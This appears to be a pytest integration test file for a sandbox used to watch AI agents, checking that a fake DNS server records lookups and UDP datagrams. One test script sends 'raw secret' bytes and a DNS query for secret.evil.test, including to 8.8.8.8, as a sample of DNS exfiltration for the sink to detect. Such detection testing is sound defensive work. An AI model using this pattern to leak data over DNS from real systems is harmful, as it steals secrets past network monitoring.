"""The name server as an agent in the sandbox sees it."""

import asyncio
from collections.abc import Callable
from typing import Any

import pytest

from agent_litmus.records.effect import Channel
from agent_litmus.records.probe import Environment
from agent_litmus.sandbox.protocol import Listeners, SandboxSession
from agent_litmus.services.sink import SinkSession

pytestmark = pytest.mark.integration
Play = Callable[..., Any]

ASK = """
import socket, struct
query = struct.pack("!6H", 7, 256, 1, 0, 0, 0) + b"\\6secret\\4evil\\4test\\0" + struct.pack("!2H", 1, 1)
for family, address in ((socket.AF_INET, {four!r}), (socket.AF_INET6, {six!r})):
    client = socket.socket(family, socket.SOCK_DGRAM)
    client.settimeout(20)
    client.sendto(b"raw secret", (address, 53))
    client.sendto(query, (address, 53))
    print(socket.inet_ntoa(client.recv(4096)[-4:]))
"""


@pytest.mark.parametrize(("four", "six"), [("127.0.0.1", "::1"), ("8.8.8.8", "2001:db8::53")])
def test_look_ups_and_datagrams_over_both_protocols_are_recorded(contained: Play, four: str, six: str) -> None:
    sink = SinkSession(Environment("empty"), inspect=lambda text: ["k"] * ("secret" in text))

    async def serve(_: SandboxSession, listeners: Listeners) -> None:
        assert listeners.dns is not None
        await asyncio.get_running_loop().create_datagram_endpoint(sink.dns, sock=listeners.dns.dup())
        await asyncio.Event().wait()

    seen = contained("{python}", "-c", ASK.format(four=four, six=six), during=serve)
    assert seen.output == "198.18.0.1\n" * 2
    assert [(e.channel, e.action, e.detail["carries"]) for e in sink.effects] == [
        (Channel.DNS, "bytes", ["k"]),
        (Channel.DNS, "resolve", ["k"]),
    ] * 2


def test_the_systems_resolver_finds_a_name(contained: Play) -> None:
    sink = SinkSession(Environment("empty"))

    async def serve(_: SandboxSession, listeners: Listeners) -> None:
        assert listeners.dns is not None
        await asyncio.get_running_loop().create_datagram_endpoint(sink.dns, sock=listeners.dns.dup())
        await asyncio.Event().wait()

    code = "import socket; print(socket.gethostbyname('evil.test'))"
    seen = contained("{python}", "-c", code, during=serve)
    assert seen.output == "198.18.0.1\n"
    assert {e.action for e in sink.effects} == {"resolve"}
